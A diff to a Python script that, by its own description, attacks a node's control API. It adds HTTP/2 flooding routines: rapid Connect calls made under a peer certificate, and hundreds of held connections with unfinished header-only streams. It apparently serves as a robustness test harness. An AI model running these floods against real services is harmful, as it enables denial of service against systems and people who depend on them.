@@ -1,10 +1,11 @@
 #!/usr/bin/env python3
-"""Attacks a node's control API: flood.py KIND ADDRESS PORT [SECONDS]. Prints the outcome as one JSON object."""
+"""Attacks a node's control API: flood.py KIND ADDRESS PORT [SECONDS [PEER_ID]]. Prints the outcome as one JSON object."""
 import contextlib
 import json
 import os
 import resource
 import socket
+import ssl
 import struct
 import sys
 import time
@@ -160,6 +161,54 @@ def garbage():
     return {"ended": ended}
 
 
+def field(number, text):
+    """A string of a protobuf message."""
+    return bytes([number << 3 & 0x7f | 2 | (0x80 if number > 15 else 0)]) + (bytes([number >> 4]) if number > 15 else b"") + \
+        bytes([len(text)]) + text
+
+
+def as_peer():
+    """A connection with the certificate of a peer."""
+    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
+    tls.load_cert_chain("/tmp/peer.pem", "/tmp/peer.key")
+    tls.set_alpn_protocols(["h2"])
+    return tls.wrap_socket(socket.create_connection(ADDRESS, timeout=10))
+
+
+CONNECT = request(b"/dev.ehazlett.heimdall.api.v1.Heimdall/Connect")
+
+
+def connects():
+    """An authorized peer: changes of its own record, 95 in each connection, which it leaves at once."""
+    calls, ended, end = 0, 0, time.monotonic() + SECONDS
+    while time.monotonic() < end:
+        out = PREFACE + frame(SETTINGS, 0, 0)
+        for stream in range(1, 191, 2):
+            message = (field(1, PEER_ID) + field(2, b"client") + field(100, b"Cg" + b"A" * 41 + b"=") +
+                       field(101, f"v{calls}".encode()))
+            out += frame(HEADERS, 4, stream, CONNECT) + frame(DATA, 1, stream, struct.pack(">BI", 0, len(message)) + message)
+            calls += 1
+        with contextlib.suppress(OSError), as_peer() as sock:
+            sock.sendall(out)
+            sock.recv(1)
+            ended += 1
+    return {"calls": calls, "connections": ended}
+
+
+def unfinished():
+    """An authorized peer: 300 connections of 100 calls that have headers and no request."""
+    block = CONNECT + literal(b"a", b"b" * 120) * 70
+    out = PREFACE + frame(SETTINGS, 0, 0) + b"".join(frame(HEADERS, 4, stream, block) for stream in range(1, 201, 2))
+    held = []
+    for _ in range(300):
+        with contextlib.suppress(OSError):
+            held.append(as_peer())
+            held[-1].sendall(out)
+    time.sleep(1)
+    return {"connections": len(held), "ended": sum(is_closed(sock, 0.01) for sock in held)}
+
+
 def hold(count, begin, drip, seconds):
     """`count` connections that say `begin`, then a byte of `drip` every second."""
     socks, refused = [], 0
@@ -211,6 +260,7 @@ def slow_preface():
 if __name__ == "__main__":
     kind, ADDRESS = sys.argv[1], (sys.argv[2], int(sys.argv[3]))
     SECONDS = float(sys.argv[4]) if len(sys.argv) > 4 else 8
+    PEER_ID = sys.argv[5].encode() if len(sys.argv) > 5 else b""
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     print(json.dumps(globals()[kind]()), flush=True)
